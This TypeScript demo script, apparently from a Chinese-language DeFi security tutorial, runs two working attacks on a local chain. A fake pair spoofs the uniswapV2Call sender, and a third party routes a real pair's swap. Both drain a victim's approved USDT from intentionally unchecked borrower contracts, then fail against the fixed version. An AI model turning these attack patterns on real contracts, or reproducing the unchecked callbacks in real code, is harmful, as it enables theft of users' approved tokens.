// SPDX-License-Identifier: MIT
// 回调演示：不检查调用者的 uniswapV2Call 会把用户授权的代币付给任何人；补上两项检查后攻击失败。
// #region imports
import {
  encodeAbiParameters,
  erc20Abi,
  formatUnits,
  parseAbi,
  parseUnits,
  testActions,
  type Address,
} from 'viem';
import { deployments, publicClient } from '#starter/clients';
import { showFailure } from '#starter/failures';
import '#starter/local-chain';
import { waitForSuccess } from '#starter/receipts';
import { account, walletClient } from '#starter/wallet';
import { artifact } from '#solidity';
// #endregion imports

// #region setup
const { wxoc, usdt, v2Factory } = deployments;
const pair = await publicClient.readContract({
  address: v2Factory,
  abi: parseAbi(['function getPair(address tokenA, address tokenB) view returns (address pair)']),
  functionName: 'getPair',
  args: [wxoc, usdt],
});
const pairAbi = parseAbi([
  'function swap(uint256 amount0Out, uint256 amount1Out, address to, bytes data)',
]);
const fakePairAbi = parseAbi([
  'function attack(address target, address victim, address stolen, uint256 value)',
]);

const victim = account.address;
const [, , attacker] = await walletClient.request({ method: 'eth_accounts' });
const fakePair = { address: await deploy('security/FakePairDemo'), abi: fakePairAbi } as const;
// 受害者为了闪电兑换，曾授权目标合约使用 600 USDT。
const allowed = parseUnits('600', 6);
// #endregion setup

// #region fake-pair
/** 攻击一：假交易对直接调用回调，sender 参数冒充目标合约。 */
async function callFromFakePair(target: Address) {
  const { request } = await publicClient.simulateContract({
    ...fakePair,
    account: attacker,
    functionName: 'attack',
    args: [target, victim, usdt, allowed],
  });
  await waitForSuccess(await walletClient.writeContract(request));
  return balance(usdt, fakePair.address);
}
// #endregion fake-pair

// #region third-party
/** 攻击二：第三者让登记过的交易对去调用目标合约，并在 data 里指定受害者付款。 */
async function callThroughRealPair(target: Address) {
  const before = await balance(usdt, victim);
  const amount = parseUnits('100', 18);
  const types = ['address', 'address', 'uint256', 'bool', 'uint256', 'address'];
  const components = types.map((type) => ({ type }));
  const loan = [wxoc, usdt, amount, true, allowed, victim];
  const data = encodeAbiParameters([{ type: 'tuple', components }], [loan]);
  const { request } = await publicClient.simulateContract({
    address: pair,
    abi: pairAbi,
    account: attacker,
    functionName: 'swap',
    args: [amount, 0n, target, data],
  });
  await waitForSuccess(await walletClient.writeContract(request));
  return before - (await balance(usdt, victim));
}
// #endregion third-party

const chain = publicClient.extend(testActions({ mode: 'hardhat' }));

// #region drained
const unsafe = await deployTarget('security/UnsafeFlashBorrower');
const fresh = await chain.snapshot();
console.log(`没有检查：假交易对拿走受害者 ${inUsdt(await callFromFakePair(unsafe))}`);
await chain.revert({ id: fresh });
// #endregion drained

// #region half-checked
const senderOnly = await deployTarget('security/SenderOnlyBorrower');
const freshAgain = await chain.snapshot();
console.log(`只检查 sender：假交易对拿走受害者 ${inUsdt(await callFromFakePair(senderOnly))}`);
await chain.revert({ id: freshAgain });

const pairOnly = await deployTarget('security/PairOnlyBorrower');
await showFailure(() => callFromFakePair(pairOnly));
console.log(
  `只检查交易对：第三者替受害者下单，付出 ${inUsdt(await callThroughRealPair(pairOnly))}`,
);
// #endregion half-checked

// #region mended
const safe = await deployTarget('flash-swaps/FlashBorrower');
await showFailure(() => callFromFakePair(safe));
await showFailure(() => callThroughRealPair(safe));
// #endregion mended

// #region helpers
async function deployTarget(name: string) {
  const target = await deploy(name, [v2Factory]);
  const args = [target, allowed] as const;
  const call = { address: usdt, abi: erc20Abi, functionName: 'approve', args } as const;
  await waitForSuccess(await walletClient.writeContract(call));
  return target;
}

async function deploy(file: string, args: unknown[] = []): Promise<Address> {
  const name = file.slice(file.lastIndexOf('/') + 1);
  const { abi, bytecode } = artifact(`solidity/${file}.sol:${name}`);
  const hash = await walletClient.deployContract({ abi, bytecode, args });
  const { contractAddress } = await publicClient.waitForTransactionReceipt({ hash });
  if (!contractAddress) throw new Error(`${name} 部署失败`);
  return contractAddress;
}

function balance(token: Address, owner: Address) {
  const call = { address: token, abi: erc20Abi, functionName: 'balanceOf' } as const;
  return publicClient.readContract({ ...call, args: [owner] });
}

function inUsdt(amount: bigint) {
  return `${formatUnits(amount, 6)} USDT`;
}
// #endregion helpers
